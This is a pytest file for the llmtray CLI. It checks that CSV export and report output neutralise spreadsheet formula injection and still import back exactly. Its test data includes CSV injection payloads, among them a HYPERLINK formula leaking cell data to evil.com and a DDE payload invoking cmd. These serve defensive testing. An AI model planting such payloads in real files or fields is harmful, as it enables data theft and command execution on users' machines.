"""Issue #26 item 4: attacker-chosen names in `llmtray export --format csv` and `report --format
csv` are written as text a spreadsheet shows, never as a formula it runs — and llmtray's own
CSV still imports back exactly (the real CLI in a subprocess, the real importer)."""

from __future__ import annotations

import csv
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

from llmtray.core.events import parse_event
from llmtray.core.store import Store, event_json, iter_event_rows
from tests.test_cli import llmtray

HOSTILE = {
    "feature": '=HYPERLINK("http://evil.com/?"&A1,"x")',
    "user": "@SUM(1+1)",
    "project": "+cmd|' /C calc'!A0",
    "env": "-2+3",
    "request_id": "\t=1+1",
    "error": "\r=1+1",
    "model": "'=already quoted",  # starts with the guard itself: must survive the round trip
}


def _fill(data_dir: Path) -> list[dict]:
    store = Store.open(data_dir / "llmtray.db")
    now = datetime.now(UTC) - timedelta(minutes=5)
    store.add([parse_event({"id": "evil", "provider": "openai", "ts": now.isoformat(), "input_tokens": 10,
                            "status": "error", "tags": {"k": "=1+1"}, **HOSTILE}),
               parse_event({"id": "plain", "provider": "openai", "model": "gpt-4o-mini", "ts": now.isoformat(),
                            "input_tokens": 1000, "output_tokens": 10, "feature": "chat", "latency_ms": 12.5})],
              "api")
    events = [event_json(r) for r in iter_event_rows(store.conn)]
    store.close()
    return events


def test_export_csv_cells_are_not_formulas_and_import_back_losslessly(data_dir, tmp_path):
    original = _fill(data_dir)
    path = tmp_path / "export.csv"
    llmtray("export", "--format", "csv", "-o", str(path), data_dir=data_dir)
    with open(path, encoding="utf-8", newline="") as f:  # newline="": a \r inside a cell stays a \r
        rows = {r["id"]: r for r in csv.DictReader(f)}
    evil = rows["evil"]
    for field, value in HOSTILE.items():
        assert evil[field] == "'" + value, field
    for row in rows.values():  # nothing a spreadsheet would evaluate is left in any cell
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    assert rows["plain"]["input_tokens"] == "1000" and rows["plain"]["latency_ms"] == "12.5"  # numbers stay numbers
    assert rows["plain"]["feature"] == "chat"

    target = tmp_path / "restored"
    llmtray("import", str(path), data_dir=target)
    conn = sqlite3.connect(target / "llmtray.db")
    conn.row_factory = sqlite3.Row
    try:
        restored = [event_json(r) for r in iter_event_rows(conn)]
    finally:
        conn.close()
    assert restored == original


def test_report_csv_guards_the_name_column_only(data_dir):
    _fill(data_dir)
    out = llmtray("report", "--by", "feature", "--format", "csv", data_dir=data_dir).stdout
    rows = {r["feature"]: r for r in csv.DictReader(out.splitlines())}
    assert set(rows) == {"'" + HOSTILE["feature"], "chat"}
    assert rows["chat"]["input_tokens"] == "1000"
